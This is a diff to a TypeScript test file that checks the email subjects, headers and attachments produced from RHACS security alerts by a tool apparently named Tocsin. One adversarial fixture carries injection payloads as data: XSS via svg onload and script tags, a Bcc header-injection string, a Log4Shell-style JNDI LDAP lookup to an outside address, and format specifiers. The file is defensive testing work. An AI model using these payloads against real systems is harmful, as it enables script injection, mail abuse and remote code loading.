@@ -46,19 +46,24 @@ const SUBJECTS: Readonly<Record<string, string>> = {
   '17-audit-message': 'RHACS audit: carol@example.com: Changed /v1/alerts/1e34370c-c8dc-4c4f-bc08-e938e189a190/resolve',
   '18-networkpolicy-message': "New network policy YAML for cluster 'prod-eu-1' needs to be applied",
   '19-test-button': '[TEST] Tocsin can reach you through receiver soc',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's text
   '21-adversarial-injection':
-    "[FIRING:1] High: Deployment worker\"><svg onload=alert(2)> (in cluster prod-eu-1) violates 'Shell Bcc: all@example.com <script>alert(5)</script> ${jndi:ldap://198.51.100.9/a} %s%n' Policy",
+    '[FIRING:1] High: Deployment worker"><svg onload=alert(2)> (in cluster prod-eu-1) violates \'Shell Bcc: all@example.com <script>alert(5)</script> $' +
+    "{jndi:ldap://198.51.100.9/a} %s%n' Policy",
   '22-adversarial-500-violations':
     "[FIRING:1] High: Deployment monolith (in cluster prod-eu-1) violates 'Fixable CVSS >= 7' Policy",
   '23-runtime-processes-resent':
     "[FIRING:1] Low: Deployment invoice-worker (in cluster prod-eu-1) violates 'Ubuntu Package Manager Execution' Policy",
   '24-runtime-resent-deployment-gone':
-    "[FIRING:1] Low: Deployment invoice-worker (in cluster prod-eu-1) violates 'Ubuntu Package Manager Execution' Policy",
+    "[RESOLVED] Deployment invoice-worker (in cluster prod-eu-1) violates 'Ubuntu Package Manager Execution' Policy",
 };
 
 /** What RHACS's REST API answers, not what its webhook sends. */
 const NO_MESSAGES = ['20-rest-alert-resolved'];
+
+/** Files that go along. */
+const FILES: Readonly<Record<string, readonly string[]>> = {
+  '18-networkpolicy-message': ['network-policy-prod-eu-1.yaml'],
+};
 
 /** In any order; a name may be missing, none may be there besides, none twice. */
 const HEADERS = [
@@ -128,7 +133,7 @@ describe.each(Object.keys(SUBJECTS))('%s', (name) => {
     const headers = parsed.headerLines.map(({ key }) => key);
     expect(headers.filter((header) => !HEADERS.includes(header))).toEqual([]);
     expect(new Set(headers).size).toBe(headers.length);
-    expect(parsed.attachments).toEqual([]);
+    expect(parsed.attachments.map(({ filename }) => filename)).toEqual(FILES[name] ?? []);
 
     const html = parsed.html || '';
     expect(Buffer.byteLength(html)).toBeLessThan(100 * 1024);
